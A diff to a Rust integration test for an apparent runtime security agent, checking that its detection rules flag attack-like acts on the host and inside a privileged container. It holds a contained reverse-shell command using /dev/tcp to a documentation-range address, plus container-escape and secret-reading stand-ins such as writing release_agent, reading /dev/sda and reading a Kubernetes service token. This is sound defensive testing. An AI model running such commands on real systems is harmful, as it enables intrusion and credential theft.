@@ -1,15 +1,17 @@
 //! The rules that are shipped: they load without a word, their examples hold, and on the real kernel they report the
 //! acts that they are for and stay quiet about everyday work.
 
-#![expect(clippy::unwrap_used, reason = "a test says what it saw, and ends where it fails")]
+#![expect(clippy::unwrap_used, clippy::print_stdout, reason = "a test says what it saw, and ends where it fails")]
 
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::process::Command;
 use std::time::Duration;
 
+use serde_json::Value;
 use tiercel_loadtest::harness::acts::{self, Act};
 use tiercel_loadtest::harness::{
-    Agent, AgentSetup, KernelLock, Scope, Scratch, binary, default_rules, kernel_refusal, run_bounded, skip, wait_for,
+    Agent, AgentSetup, Container, KernelLock, Rootfs, Scope, Scratch, binary, default_rules, kernel_refusal,
+    run_bounded, skip, wait_for,
 };
 
 const ACTS_LIMIT: Duration = Duration::from_secs(100);
@@ -167,6 +169,48 @@ const ROWS: &[Row] = &[
 const REVERSE_SHELL: &str = "unshare -n bash -c 'ip addr add 203.0.113.9/32 dev lo; ip link set lo up\n\
     timeout 2 nc -l 203.0.113.9 31337 > /dev/null & sleep 0.4; bash -c \"exec 5<> /dev/tcp/203.0.113.9/31337; exec 1>&5; echo x\"; wait'";
 
+/// Acts inside a container that has all capabilities.
+const CONTAINER_ROWS: &[Row] = &[
+    row(
+        "packet",
+        "Packet socket opened in a container",
+        "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)'",
+    ),
+    row("release-agent", "Kernel helper file written from a container", "echo x > $T/release_agent"),
+    row("decode", "Payload decoded in a container", "echo aGVsbG8= | base64 -d > /dev/null"),
+    row(
+        "module",
+        "Kernel module loaded from a container",
+        "python3 -c \"import ctypes; ctypes.CDLL(None).syscall(313, -1, b'', 0)\"",
+    ),
+    row("mount", "Mount made inside a container", "mkdir $T/m; mount -t tmpfs none $T/m"),
+    row(
+        "dropped",
+        "Program run that was not in the image",
+        "mkdir $T/l $T/o $T/s; mount -t tmpfs none $T/s; mkdir $T/s/u $T/s/w\n\
+         mount -t overlay -o lowerdir=$T/l,upperdir=$T/s/u,workdir=$T/s/w none $T/o; cp /bin/true $T/o/dropped; $T/o/dropped",
+    ),
+    row("package-manager", "Package manager run in a container", "cp /bin/true $T/apk; $T/apk add gcc"),
+    row("enter", "Namespace entered by unexpected program", "nsenter -t $$ -u true"),
+    row("user-namespace", "User namespace made by unexpected program", "unshare -U true"),
+    row("disk", "Disk or memory of the host opened in a container", "touch /dev/sda; head -c 1 /dev/sda"),
+    row(
+        "token",
+        "Kubernetes service token read by a shell tool",
+        "D=$T/secrets/kubernetes.io/serviceaccount; mkdir -p $D; echo x > $D/token; cat $D/token > /dev/null",
+    ),
+];
+
+/// Programs that the acts need in the container.
+const CONTAINER_PROGRAMS: &[&str] = &[
+    "base64", "bash", "cat", "cp", "head", "mkdir", "mount", "nsenter", "python3", "sleep", "touch", "true", "unshare",
+];
+
+/// The first process of a container with all capabilities is reported before it has done anything.
+const AT_START: &str = "Privileged container started";
+
+const CONTAINER_ID: &str = "8d41f0a6c2b3e59716fa0c3d8e7b92145a6c0e1f2d3b48597a6c8e0d1f2b3c4d";
+
 /// What machines do all day.
 const EVERYDAY: &[Act] = &[
     everyday(
@@ -227,39 +271,79 @@ fn they_report_attacks_and_stay_quiet_about_everyday_work() {
     let _lock = KernelLock::take().unwrap();
     let scratch = Scratch::new("default-rules").unwrap();
     let scope = Scope::create("default-rules").unwrap();
-    let mut rules = vec![scratch.write("00-mark.yaml", acts::MARK_RULE).unwrap()];
-    rules.extend(rule_files());
-    let setup = AgentSetup { rules, scope: scope.section(), uplink: None };
-    let agent = Agent::start(&scratch.join("agent"), &setup).unwrap();
+    let agent = start_agent(&scratch, &scope);
     let script = scratch.join("actions.sh");
     acts::write_script(&script, ROWS.iter().map(|row| &row.act).chain(EVERYDAY)).unwrap();
     let output = run_bounded(scope.command(&script).arg(scratch.join("acts")), ACTS_LIMIT).unwrap();
     println!("{}", String::from_utf8_lossy(&output.stderr));
 
-    let alerts = wait_for("the alert of the last mark", ALERTS_LIMIT, || {
-        let alerts = agent.alerts();
-        acts::is_complete(&alerts).then_some(alerts)
-    });
-    let alerts = acts::by_act(&alerts.unwrap_or_else(|error| panic!("{error}{}", agent.daemon().log_tail())));
-    let rules_of = |act: &Act| {
-        let own = alerts.iter().find(|(name, _)| name == act.name);
-        own.map_or_else(Vec::new, |(_, alerts)| acts::rule_names(alerts))
-    };
-    let mut faults = Vec::new();
-    for row in ROWS {
-        let rules = rules_of(&row.act);
-        println!("{:18} {rules:?}", row.act.name);
-        if !rules.iter().any(|rule| rule == row.rule) {
-            faults.push(format!("{}: expected \"{}\", got {rules:?}", row.act.name, row.rule));
-        }
-    }
+    let alerts = acts::by_act(&wait_for_all(&agent));
+    let mut faults = missed(ROWS, &alerts);
     for act in EVERYDAY {
-        let rules = rules_of(act);
+        let rules = rules_of(act, &alerts);
         if !rules.is_empty() {
             faults.push(format!("everyday work {}: got {rules:?}", act.name));
         }
     }
     assert!(faults.is_empty(), "{faults:#?}");
+}
+
+#[test]
+fn they_report_attacks_inside_a_container() {
+    if let Some(why) = kernel_refusal() {
+        return skip("they_report_attacks_inside_a_container", &why);
+    }
+    let _lock = KernelLock::take().unwrap();
+    let scratch = Scratch::new("default-rules-container").unwrap();
+    let scope = Scope::create("default-rules-container").unwrap();
+    let rootfs = Rootfs::build(&scratch.join("rootfs"), CONTAINER_PROGRAMS).unwrap();
+    rootfs.copy_python().unwrap();
+    acts::write_script(&rootfs.inside(Path::new("/usr/bin/actions.sh")), CONTAINER_ROWS.iter().map(|row| &row.act))
+        .unwrap();
+    let agent = start_agent(&scratch, &scope);
+    let command = ["/usr/bin/actions.sh", "/tmp/acts"];
+    let container = Container::prepare(&scratch.join("bundle"), CONTAINER_ID, &rootfs, &scope, &command).unwrap();
+    let output = container.run(ACTS_LIMIT).unwrap();
+    println!("{}", String::from_utf8_lossy(&output.stderr));
+
+    let alerts = wait_for_all(&agent);
+    let faults = missed(CONTAINER_ROWS, &acts::by_act(&alerts));
+    assert!(faults.is_empty(), "{faults:#?}");
+    let at_start = alerts.iter().filter(|alert| alert["rule"] == AT_START).count();
+    assert_eq!(at_start, 1, "{AT_START}: {:?}", acts::rule_names(&alerts));
+}
+
+fn start_agent(scratch: &Scratch, scope: &Scope) -> Agent {
+    let mut rules = vec![scratch.write("00-mark.yaml", acts::MARK_RULE).unwrap()];
+    rules.extend(rule_files());
+    let setup = AgentSetup { rules, scope: scope.section(), uplink: None };
+    Agent::start(&scratch.join("agent"), &setup).unwrap()
+}
+
+fn wait_for_all(agent: &Agent) -> Vec<Value> {
+    let complete = wait_for("the alert of the last mark", ALERTS_LIMIT, || {
+        let alerts = agent.alerts();
+        acts::is_complete(&alerts).then_some(alerts)
+    });
+    complete.unwrap_or_else(|error| panic!("{error}{}", agent.daemon().log_tail()))
+}
+
+fn rules_of(act: &Act, alerts: &[(String, Vec<Value>)]) -> Vec<String> {
+    let own = alerts.iter().find(|(name, _)| name == act.name);
+    own.map_or_else(Vec::new, |(_, alerts)| acts::rule_names(alerts))
+}
+
+/// Prints what each act gave, and returns those that lack their rule.
+fn missed(rows: &[Row], alerts: &[(String, Vec<Value>)]) -> Vec<String> {
+    let mut faults = Vec::new();
+    for row in rows {
+        let rules = rules_of(&row.act, alerts);
+        println!("{:18} {rules:?}", row.act.name);
+        if !rules.iter().any(|rule| rule == row.rule) {
+            faults.push(format!("{}: expected \"{}\", got {rules:?}", row.act.name, row.rule));
+        }
+    }
+    faults
 }
 
 fn agent(arguments: &[&str]) -> std::process::Output {
